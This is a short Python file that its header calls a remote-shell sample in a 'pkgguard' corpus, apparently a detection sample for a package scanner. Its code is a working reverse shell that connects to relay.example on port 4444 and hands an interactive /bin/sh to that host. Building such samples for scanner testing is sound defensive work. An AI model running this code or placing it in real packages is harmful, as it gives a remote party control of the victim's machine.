# pkgguard corpus 204 (remote-shell), modelled on [taxonomy]; inert, never run.
import socket
import subprocess

s = socket.create_connection(("relay.example", 4444))
subprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno()).wait()
